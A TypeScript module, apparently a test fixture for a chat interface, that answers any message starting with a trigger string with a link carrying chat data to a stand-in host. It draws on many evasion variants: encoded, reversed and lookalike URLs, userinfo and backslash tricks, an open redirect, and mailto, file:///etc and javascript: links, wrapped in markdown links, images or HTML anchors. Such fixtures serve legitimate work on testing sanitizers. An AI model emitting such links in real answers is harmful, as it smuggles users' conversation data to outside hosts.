import { CHAT_DATA } from '../ledger.ts'
import type { Random } from '../random.mjs'

/** A message that begins so is answered with a link that carries its text; a number that no other has follows. */
export const LINK = 'link chat-data-7741-marmalade '

/** The words of each link. */
const LINK_WORDS = 'Open the page'

/** An answer whose link takes text of the message to its host. */
export function leakingLink(random: Random, message: string): string {
  const id = message.slice(LINK.length)
  const data = `${CHAT_DATA}-7741-marmalade`
  const host = `h${id}.example.org`
  const percent = Array.from(data, (one) => `%${one.charCodeAt(0).toString(16)}`).join('')
  const address = random.pick([
    `https://${host}/${data}`,
    `https://${host}/?q=${data}`,
    `https://${host}/#${data}`,
    `https://${host}/${percent}`,
    `https://${host}/${Buffer.from(data).toString('base64url')}`,
    `https://${data}.${host}/`,
    `https://${host}/${Array.from(data).toReversed().join('')}`,
    `https://${data}@${host}/`,
    `https://xn--gthub-n4a.${host}/`,
    `https://${host}\\@${data}.example.net/`,
    `https://${host}/go?to=https://127.0.0.1/${data}`,
    `mailto:someone@${host}?body=${data}`,
    `file:///etc/${host}`,
    `javascript:open('https://${host}/${data}')`,
  ])
  return random.pick([
    `[${LINK_WORDS}](${address})`,
    `[${LINK_WORDS}](<${address}> "title")`,
    `[${LINK_WORDS}][1]\n\n[1]: ${address}`,
    `<${address}>`,
    address,
    `<a href="${address}">${LINK_WORDS}</a>`,
    `[![${LINK_WORDS}](${address})](${address})`,
    `![${LINK_WORDS}](${address})`,
    `[https://docs.example.org](${address})`,
  ])
}
